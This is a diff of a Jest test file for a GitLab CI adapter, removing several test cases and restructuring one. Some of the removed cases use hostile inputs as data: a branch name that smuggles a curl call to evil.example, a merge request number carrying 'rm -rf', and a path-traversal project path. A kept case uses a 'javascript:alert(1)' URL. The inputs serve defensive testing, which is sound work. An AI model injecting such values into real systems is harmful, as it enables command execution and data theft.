@@ -1,5 +1,5 @@
-import { describe, expect, test } from '@jest/globals'
-import { isGitLab, readGitLab, readGitLabContext } from '../../../src/adapters/ci/gitlab.js'
+import { expect, test } from '@jest/globals'
+import { readGitLab, readGitLabContext } from '../../../src/adapters/ci/gitlab.js'
 import { createRedactor } from '../../../src/masking/redactor.js'
 import { createGitHubSide } from '../../../src/report/github/github-side.js'
 import { COMMIT_A, COMMIT_B } from '../../support/fakes/answers.js'
@@ -73,12 +73,6 @@ test.each<[string, Variables, Record<string, string>, unknown[]]>([
     ['support-mr-12', HERE, 'feature/x', undefined, false]
   ],
   [
-    'a child pipeline of a merge request',
-    merge({ CI_PIPELINE_SOURCE: 'parent_pipeline' }),
-    preview,
-    ['support-mr-12', HERE, 'feature/x', COMMIT_A, false]
-  ],
-  [
     'a fork',
     merge(FORK),
     preview,
@@ -89,12 +83,6 @@ test.each<[string, Variables, Record<string, string>, unknown[]]>([
     branch({ CI_SERVER_URL: 'https://example.org/gitlab/' }),
     {},
     ['support', 'https://example.org/gitlab/acme/agents/support', 'main', COMMIT_A, true]
-  ],
-  [
-    'a branch that is named like a command',
-    merge({ CI_MERGE_REQUEST_SOURCE_BRANCH_NAME: '$(curl${IFS}evil.example);`x`' }),
-    preview,
-    ['support-mr-12', HERE, '$(curl${IFS}evil.example);`x`', COMMIT_A, false]
   ],
   ['no commit yet', branch({ CI_COMMIT_SHA: '0'.repeat(40) }), {}, ['support', HERE, 'main', undefined, false]]
 ])('what is deployed by %s', (_case, variables, inputs, code) => {
@@ -108,14 +96,6 @@ test.each<[string, Variables, Record<string, string>, RegExp]>([
     preview,
     /^repo_ref: is not set, and the service would read the branch name refs\/tags\/v1 as another ref/
   ],
-  ['a merge request without a choice', merge(), {}, /^preview: is not set, and this is a pull request/],
-  ['a merge request with a broken number', merge({ CI_MERGE_REQUEST_IID: '12; rm -rf' }), {}, /^preview: is not set/],
-  [
-    'a number that is none',
-    merge({ CI_MERGE_REQUEST_IID: '0' }),
-    preview,
-    /^preview: is true, but this run \(event merge_request_event\)/
-  ],
   ['a push with preview', branch(), preview, /^preview: is true, but this run \(event push\) does not belong/],
   [
     'a pull request of another git host',
@@ -123,32 +103,22 @@ test.each<[string, Variables, Record<string, string>, RegExp]>([
     {},
     /^preview: is not set/
   ],
-  [
-    'the same, of an image',
-    branch({ CI_EXTERNAL_PULL_REQUEST_IID: '4', CI_PIPELINE_SOURCE: 'external_pull_request_event' }),
-    { preview: 'false' },
-    /^repo_ref: is not set, and this pipeline belongs to a pull request of another git host/
-  ],
-  ['a project that is no path', branch({ CI_PROJECT_PATH: 'acme/../../support?x' }), {}, /^repo_url: is not set/],
-  ['no key', branch(), { api_key: '' }, /^api_key: .*A protected variable exists only on protected branches/],
-  ['a sweep without an age', branch(), { command: 'sweep' }, /^max_age: is required here/]
+  ['no key', branch(), { api_key: '' }, /^api_key: .*A protected variable exists only on protected branches/]
 ])('%s is a problem', (_case, variables, inputs, problem) => {
   const problems = problemsOf({ ...GOOD, ...inputs }, readGitLabContext(variables))
   expect(problems.join('\n')).toMatch(new RegExp(problem.source, 'm'))
 })
 
-describe('a delete of a preview', () => {
-  test('needs no more than the variables of the merge request', () => {
-    const request = read(
-      { ...GOOD, command: 'delete', preview: 'true', graph_config_path: '' },
-      readGitLabContext(merge(FORK))
-    )
-    expect(request).toMatchObject({
-      command: 'delete',
-      target: { name: 'support-mr-12' },
-      closing: undefined,
-      ownership: { if_foreign: 'keep', claim: { repositories: [HERE, 'https://gitlab.example:8443/someone/support'] } }
-    })
+test('a delete of a preview needs no more than the variables of the merge request', () => {
+  const request = read(
+    { ...GOOD, command: 'delete', preview: 'true', graph_config_path: '' },
+    readGitLabContext(merge(FORK))
+  )
+  expect(request).toMatchObject({
+    command: 'delete',
+    target: { name: 'support-mr-12' },
+    closing: undefined,
+    ownership: { if_foreign: 'keep', claim: { repositories: [HERE, 'https://gitlab.example:8443/someone/support'] } }
   })
 })
 
@@ -162,11 +132,6 @@ test('the token of the job is in no fact of the run', () => {
 })
 
 test.each<[string, Variables, object]>([
-  [
-    'an address with a user',
-    { CI_SERVER_URL: 'https://user:pass@gitlab.example' },
-    { server_url: 'https://gitlab.com' }
-  ],
   ['a page that is none', { CI_JOB_URL: 'javascript:alert(1)' }, { run_url: undefined }],
   [
     'nothing at all',
@@ -192,14 +157,6 @@ test('GitHub is not asked, whatever token is set', async () => {
   expect(await side.readPullRequest(12)).toBeUndefined()
   expect(await side.listChangedFiles({ from: COMMIT_A, to: COMMIT_B })).toMatchObject({ unknown: expect.any(String) })
   expect(opened).toEqual([])
-})
-
-test.each([
-  [{ GITLAB_CI: 'true' }, true],
-  [{ GITLAB_CI: 'false' }, false],
-  [{ CI: 'true' }, false]
-])('%j is GitLab: %s', (variables, is) => {
-  expect(isGitLab(variables)).toBe(is)
 })
 
 test('a group folds in the log of the job', () => {
